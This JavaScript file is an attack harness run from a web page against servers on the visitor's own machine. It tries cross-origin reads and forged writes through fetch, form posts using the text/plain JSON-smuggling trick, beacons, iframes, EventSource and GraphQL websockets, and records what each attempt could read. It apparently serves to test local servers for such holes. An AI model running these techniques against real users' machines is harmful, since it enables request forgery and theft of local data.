// Attacks of a web page on servers on its visitor's machine.
//
// attack(targets) resolves to a list of {what, read, said}: the attempt, what the page could read (or null), and the
// browser's error. A target has the address of a server, paths to read, and writes as {path, body, type}.

const GIVE_UP_MS = 10000;

function learned(element, attributes) {
  return new Promise((resolve) => {
    const made = Object.assign(document.createElement(element), attributes);
    made.onload = () => resolve(element === "iframe" ? null : "it is there");
    made.onerror = () => resolve(null);
    document.body.append(made);
  });
}

function form(address, enctype, fields) {
  const frame = Object.assign(document.createElement("iframe"), { name: "frame" + Math.random() });
  const made = Object.assign(document.createElement("form"), { action: address, method: "POST", target: frame.name, enctype });
  for (const [name, value] of Object.entries(fields)) {
    made.append(Object.assign(document.createElement("input"), { name, value, type: "hidden" }));
  }
  document.body.append(frame, made);
  return new Promise((resolve) => {
    frame.onload = () => resolve(null);
    made.submit();
  });
}

function subscribed(address, query) {
  return new Promise((resolve) => {
    const socket = new WebSocket(address, "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.send(JSON.stringify({ id: "1", type: "start", payload: { query } }));
      setTimeout(() => resolve("it is open"), 2000);
    };
    socket.onmessage = (message) => resolve(message.data);
    socket.onerror = () => resolve(null);
  });
}

function streamed(address) {
  return new Promise((resolve) => {
    const source = new EventSource(address);
    source.onopen = () => resolve("it is open");
    source.onerror = () => { source.close(); resolve(null); };
  });
}

async function opened(address) {
  const opening = window.open(address);
  if (!opening) return null;
  await new Promise((resolve) => setTimeout(resolve, 3000));
  try {
    return opening.closed ? null : opening.document.body.innerText;
  } finally {
    opening.close();
  }
}

async function text(address, options) {
  const response = await fetch(address, options);
  return response.type === "opaque" ? null : `${response.status} ${await response.text()}`;
}

function* attempts({ base, reads, writes, query }) {
  for (const path of reads) {
    const address = base + path;
    yield [`fetch ${address}`, () => text(address)];
    yield [`fetch with credentials ${address}`, () => text(address, { credentials: "include" })];
    yield [`fetch without referrer ${address}`, () => text(address, { mode: "no-cors", referrerPolicy: "no-referrer" })];
    yield [`iframe ${address}`, () => learned("iframe", { src: address })];
    yield [`img ${address}`, () => learned("img", { src: address })];
    yield [`script ${address}`, () => learned("script", { src: address })];
    yield [`stylesheet ${address}`, () => learned("link", { rel: "stylesheet", href: address })];
    yield [`object ${address}`, () => learned("object", { data: address }).then(() => null)];
    yield [`event source ${address}`, () => streamed(address)];
  }
  for (const { path, body, type } of writes) {
    const address = base + path;
    for (const mode of ["cors", "no-cors"]) {
      for (const content of [type, "text/plain", `text/plain; as=${type}`, undefined]) {
        const headers = content ? { "content-type": content } : {};
        yield [`POST ${mode} ${content} ${address}`, () => text(address, { method: "POST", mode, headers, body })];
      }
      yield [`GET ${mode} ${address}`, () => text(address, { mode })];
    }
    yield [`POST of nothing ${address}`, () => text(address, { method: "POST", mode: "no-cors" })];
    yield [`PUT ${address}`, () => text(address, { method: "PUT", body })];
    for (const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      yield [`form ${enctype} ${address}`, () => form(address, enctype, { [body]: "" })];
    }
    yield [`beacon ${address}`, () => (navigator.sendBeacon(address, new Blob([body], { type: "text/plain" })), null)];
    yield [`JSON beacon ${address}`, () => (navigator.sendBeacon(address, new Blob([body], { type })), null)];
    yield [`img ${address}`, () => learned("img", { src: address })];
    yield [`script ${address}`, () => learned("script", { src: address })];
    yield [`iframe ${address}`, () => learned("iframe", { src: address })];
    yield [`prefetch ${address}`, () => learned("link", { rel: "prefetch", href: address })];
  }
  if (query) {
    yield [`socket ${base}`, () => subscribed(base.replace("http", "ws") + "/graphql", query)];
    yield [`window ${base}`, () => opened(base + "/")];
  }
}

async function attack(targets) {
  const trying = targets.flatMap((target) => [...attempts(target)]).map(async ([what, action]) => {
    const late = new Promise((_, reject) => setTimeout(() => reject("too late"), GIVE_UP_MS));
    try {
      return { what, read: (await Promise.race([action(), late])) ?? null, said: "" };
    } catch (error) {
      return { what, read: null, said: String(error) };
    }
  });
  return Promise.all(trying);
}
